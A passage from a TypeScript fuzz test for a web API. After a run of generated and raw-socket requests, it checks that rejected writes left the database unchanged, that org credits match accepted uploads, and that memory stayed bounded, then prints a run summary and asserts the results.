        record(`raw`, { label: rc.label, method: 'RAW' as Method, path: String(rc.bytes).split(/\r?\n/)[0].slice(0, 100), expect: rc.expect }, { status: o.status, headers: o.headers, text: o.body.toString('utf8'), json: o.json });
        const d = stateDiff(before, await state());
        if (d && o.status >= 400) failures.push(`raw [${rc.label}]: rejected with ${o.status} but the database changed: ${d}`);
      }
    } finally {
      clearInterval(sampler);
    }
    const seconds = (Date.now() - started) / 1000;

    // memory: everything the run allocated is garbage now
    for (let i = 0; i < 3; i++) {
      gc();
      await new Promise((r) => setTimeout(r, 300));
    }
    const after = process.memoryUsage();

    // credits: exactly the accepted uploads and cancels moved them
    const finalCredits = (await snapshot(db)).credits;
    for (const [org, start] of Object.entries(initialCredits)) {
      const expected = start + (ledger.get(org) ?? 0);
      if (finalCredits[org] !== expected) failures.push(`credits of ${org}: ${finalCredits[org]}, expected ${expected} (start ${start} + accepted ${ledger.get(org) ?? 0})`);
    }
    // the app still answers normally
    await t.http.get('/api/v1/me').set(A.auth).expect(200);

    const statusLine = [...stats.byStatus.entries()].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s}×${n}`).join(' ');
    process.stderr.write(
      [
        `fuzz (seed ${SEED}, ${t.config.databaseType}): ${stats.requests} requests in ${seconds.toFixed(1)} s over ${routes.length} documented routes (+ public and unknown ones, ${seenRoutes.size} distinct paths)`,
        `  statuses: ${statusLine}`,
        `  generated ${REQUESTS}, heavy ${stats.heavy}, raw-socket ${stats.raw}; accepted writes ${stats.accepted}; rejected writes verified unchanged ${stats.rejectedWritesVerified}; reads verified ${stats.readsVerified}`,
        `  RSS baseline ${(baseline.rss / MB).toFixed(0)} MB, peak ${(peak / MB).toFixed(0)} MB, after ${(after.rss / MB).toFixed(0)} MB (heap ${(baseline.heapUsed / MB).toFixed(0)} → ${(after.heapUsed / MB).toFixed(0)} MB)`,
        `  failures: ${failures.length}`,
        ...failures.slice(0, 60).map((f) => `   - ${f}`),
        '',
      ].join('\n'),
    );
    expect(stats.requests).toBeGreaterThanOrEqual(5000);
    expect(failures).toEqual([]);
    expect(stats.rejectedWritesVerified).toBeGreaterThan(1500);
    expect(after.rss - baseline.rss).toBeLessThan(MEMORY_BOUND);
  });
});
